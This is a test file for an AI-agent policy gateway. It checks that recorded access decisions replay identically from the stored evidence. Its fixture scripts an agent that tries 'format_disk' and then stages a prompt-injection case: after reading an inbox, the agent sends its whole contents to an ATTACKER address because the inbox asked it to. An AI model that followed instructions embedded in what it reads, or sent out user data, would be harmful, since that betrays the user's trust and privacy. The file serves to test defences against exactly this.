/**
 * @module
 * Invariant 10 (replayable): every decision of a run is decided again from the evidence that was recorded, with the verdicts
 * of the engine as recorded, and comes out the same; and so do the verdicts themselves from the same policies.
 *
 * Broken once on purpose, and the test that fell:
 *
 * | broken on purpose                                         | fell                                  |
 * | --------------------------------------------------------- | ------------------------------------- |
 * | `pdp/commit.ts` the evidence is recorded without its time | the same findings; the same decisions |
 * | `core/decide.ts` remembers earlier calls                  | the same decisions                    |
 * | `pdp/replay.ts` finds nothing that was not replayed       | says what it could not replay         |
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { decide } from '../../src/core/decide.ts'
import type { Decision, PolicyVerdict } from '../../src/core/decision.ts'
import { toEngineDocument } from '../../src/core/engine-document.ts'
import type { DecisionEntry, LogEntry } from '../../src/core/entry.ts'
import { canonicalize } from '../../src/core/canonical.ts'
import { asJson, isJsonObject } from '../../src/core/json.ts'
import { verifyAll } from '../../src/core/verify/index.ts'
import { createCedarEngine } from '../../src/engines/cedar.ts'
import { loadPolicyFolder } from '../../src/engines/policy-files.ts'
import type { AccessRequest, Evidence, Finding } from '../../src/index.ts'
import { connectAgent, type Agent } from '../support/agent.ts'
import { createInstallation, type Installation } from '../support/installation.ts'
import { startRecordingUpstream, type RecordingUpstream } from '../support/recording-upstream.ts'
import { ATTACKER } from '../support/tools.ts'

let upstream: RecordingUpstream
let installation: Installation
let decisions: readonly DecisionEntry[]
const agents: Agent[] = []

const OPERATIONS = [
  { tool: 'desk/*', effects: ['read', 'write', 'delete', 'send'] },
  {
    tool: 'desk/pay',
    effects: ['read', 'write', 'spend'],
    where: { amount: { range: { max: 50, clamp: true } } },
  },
]

beforeAll(async () => {
  upstream = await startRecordingUpstream()
  installation = await createInstallation({
    upstream,
    store: 'sqlite',
    grant: { operations: OPERATIONS, budgets: [{ id: 'money', limit: 120, amount: 'amount', effects: ['spend'] }] },
  })
  await run()
  decisions = (await installation.entries()).filter(isDecision)
})

afterAll(async () => {
  await Promise.all(agents.map(async (agent) => agent.close()))
  await installation.close()
  await upstream.close()
})

function isDecision(entry: LogEntry): entry is DecisionEntry {
  return entry.kind === 'decision'
}

async function work(purpose: string): Promise<Agent> {
  const { txn } = await installation.openTask(purpose)
  const agent = await connectAgent({ origin: installation.origin, key: installation.keys.agent, txn })
  agents.push(agent)
  return agent
}

/** A run with every kind of decision in it. */
async function run(): Promise<void> {
  const agent = await work('Update record r1, delete record r2, pay 80 or 50 to bob@example.org')
  for (let times = 0; times < 25; times += 1) await agent.call('read_record', { id: 'r1' })
  await agent.call('write_record', { id: 'r1', text: 'x' }, 'write: update record r1')
  await agent.call('write_record', { id: 'r1' }, 'read: look at record r1')
  for (let times = 0; times < 3; times += 1) {
    await agent.call('pay', { to: 'bob@example.org', amount: 80 }, 'spend: pay 80 to bob@example.org')
  }
  const { ticket = '' } = await agent.call('delete_record', { id: 'r2' }, 'delete: delete record r2')
  await agent.call('delete_record', { id: 'r2' }, 'delete: delete record r2')
  await installation.answer(ticket, 'approved')
  await agent.call('delete_record', { id: 'r2' }, 'delete: delete record r2')
  await agent.call('format_disk', {})
  await agent.call(
    'write_record',
    { id: 'r1', text: { __entity: { type: 'User', id: 'x' } } },
    'write: update record r1',
  )
  const injected = await work('Read the inbox')
  await injected.call('read_inbox', {}, 'read: the user asked what is in the inbox')
  await injected.call('send', { to: ATTACKER, body: 'all' }, `send: the inbox asks to send to ${ATTACKER}`)
  await installation.control('operator', 'revoke', { dimension: 'tool', id: 'desk/pay' })
  await agent.call('pay', { to: 'bob@example.org', amount: 10 }, 'spend: pay 10 to bob@example.org')
}

interface Recorded {
  readonly request: AccessRequest
  readonly evidence: Evidence
  readonly findings: readonly Finding[]
  readonly verdicts: readonly PolicyVerdict[]
}

/** What was recorded was made by us and is given back as it was. */
async function open({ id }: DecisionEntry): Promise<Recorded> {
  const { values } = await installation.evidence(id)
  const recorded: Recorded = JSON.parse(JSON.stringify(values))
  return recorded
}

function toReason(decision: Decision): string | undefined {
  return decision.kind === 'permit' ? undefined : decision.reason
}

describe('invariant 10: recorded evidence decides again as it decided', () => {
  it('has a run with every kind of decision in it', () => {
    const kinds = new Set(decisions.map(({ decision }) => decision))
    expect([...kinds].toSorted()).toEqual(['challenge', 'deny', 'modify', 'permit'])
    expect(new Set(decisions.map(({ reason }) => reason)).size).toBeGreaterThan(8)
    expect(decisions.length).toBeGreaterThan(35)
  })

  it('the same findings', async () => {
    for (const entry of decisions) {
      const { request, evidence, findings } = await open(entry)
      expect(canonicalize(verifyAll(request, evidence).map(asJson))).toBe(canonicalize(findings.map(asJson)))
    }
  })

  it('the same decisions', async () => {
    for (const entry of decisions) {
      const { request, evidence, verdicts } = await open(entry)
      const again = decide({ request, evidence, findings: verifyAll(request, evidence), verdicts })
      expect([again.kind, toReason(again)]).toEqual([entry.decision, entry.reason])
    }
  })

  it('the same verdicts, under the same policies', async () => {
    const engine = await createCedarEngine({ policies: await loadPolicyFolder(`${installation.dir}/policies`) })
    for (const entry of decisions) {
      const { request, evidence, findings, verdicts } = await open(entry)
      expect(entry.policy).toBe(`${engine.kind}:${engine.version}`)
      expect(canonicalize([asJson(await engine.evaluate(toEngineDocument(request, evidence, findings)))])).toBe(
        canonicalize(verdicts.map(asJson)),
      )
    }
    await engine.close()
  })

  it('and another decision from other evidence, so that this can fail', async () => {
    const permit = decisions.find(({ decision }) => decision === 'permit')
    if (permit === undefined) throw new Error('nothing was permitted')
    const { request, evidence, verdicts } = await open(permit)
    const later = { ...evidence, now: evidence.now + 365 * 86_400_000 }
    expect(decide({ request, evidence: later, findings: verifyAll(request, later), verdicts }).kind).toBe('deny')
  })

  it('is explained to operators, every one, with nothing that cannot be decided again', async () => {
    for (const { id, decision } of decisions) {
      const explained = await installation.control('operator', 'entry.why', { id })
      expect(explained).toMatchObject({ evidence: 'kept', unreplayed: [] })
      const { findings, remedies } = isJsonObject(explained) ? explained : {}
      expect(findings).toHaveLength(5)
      const isStopped = decision === 'deny' || decision === 'challenge'
      expect(Array.isArray(remedies) && (remedies.length > 0 || !isStopped)).toBe(true)
    }
  })

  it('a replay says what it could not replay: a limit is not in the evidence', async () => {
    const agent = await work('Delete record r10, delete record r11, delete record r12, delete record r13')
    let last: string | undefined
    for (const id of ['r10', 'r11', 'r12', 'r13']) {
      const { reason, entry } = await agent.call('delete_record', { id }, `delete: delete record ${id}`)
      if (reason === 'policy.approval-limit') last = entry
    }
    expect(last).toBeDefined()
    const explained = await installation.control('operator', 'entry.why', { id: last ?? '' })
    const outside = 'was decided by what lies outside the evidence'
    const but = 'the evidence alone gives `challenge policy.approval-required`'
    expect(isJsonObject(explained) ? explained['unreplayed'] : undefined).toEqual([
      expect.stringMatching(new RegExp(`\`deny policy\\.approval-limit\` ${outside}.*${but}`)),
    ])
  })
})
